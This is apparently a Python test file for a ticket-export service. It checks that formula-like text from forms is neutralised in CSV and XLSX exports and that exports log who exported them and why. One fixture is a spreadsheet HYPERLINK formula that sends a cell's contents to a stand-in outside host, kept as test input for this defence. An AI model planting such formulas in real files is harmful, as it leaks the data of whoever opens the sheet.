"""Nothing that somebody typed into a form runs in the spreadsheet of whoever opens an export."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.core.spreadsheet import as_csv, harmless
from service.reports.ticket_export import ExportTickets, FileKind, export_tickets
from service.tickets.finding import FindQuery
from tests.desk import Desk

FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"打开")'
SERVICE = Path(__file__).resolve().parents[2] / "service"


@pytest.mark.parametrize(
    "first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u200b=", "\u3000＝"]
)
def test_what_looks_like_a_formula_is_a_text(first: str) -> None:
    assert harmless(first + "1+1") == f"'{first}1+1"
    (row,) = csv.reader(io.StringIO(as_csv([first + "1+1"], []).decode("utf-8-sig"), newline=""))
    assert row == [f"'{first}1+1"]


@given(st.text(st.characters(codec="utf-8"), max_size=20))
def test_no_text_stays_a_formula(text: str) -> None:
    assert not harmless(text).strip(" \u00a0\u200b\u200c\u200d\u2060\u3000\ufeff").startswith(tuple("=+-@＝＋－＠\t\r"))


def test_numbers_stay_numbers() -> None:
    assert [harmless(value) for value in (-5, 3.5, None, "", "一般")] == [-5, 3.5, None, "", "一般"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_of_tickets_runs_nothing_and_says_who_when_why_and_how_many(desk: Desk, kind: FileKind) -> None:
    desk.registered(title=FORMULA, employer="@某公司")
    desk.registered(title="拖欠工资")
    command = ExportTickets(query=FindQuery(), kind=kind, reason="=月报,联系13897001234")
    with desk.do("supervisor1", export_tickets, command).content as file:
        content = file.read()

    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        assert {f"'{FORMULA}", "'@某公司", "'=月报,联系138****1234"} <= set(cells)
    else:
        sheets = openpyxl.load_workbook(io.BytesIO(content)).worksheets
        found = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert FORMULA in [cell.value for cell in found]
        assert {cell.data_type for cell in found} <= {"s", "n"}, "no formula"
        cells = [str(cell.value) for cell in found]
    about = "\n".join(cells)
    for said in ("导出人", "supervisor1 630000", "2026-11-20 09:00", "条数\n2"):
        assert said in about


def test_there_is_one_way_to_write_a_table() -> None:
    """But for a catalogue and a batch of deadlines, which go back to whoever gave them, as they were given."""
    own = {"core/spreadsheet.py", "tickets/catalogue.py", "commands/timing.py"}
    writers = {
        str(file.relative_to(SERVICE))
        for file in SERVICE.rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter\(|xlsxwriter\.Workbook\(|openpyxl\.Workbook\(", file.read_text())
    }

    assert writers == own
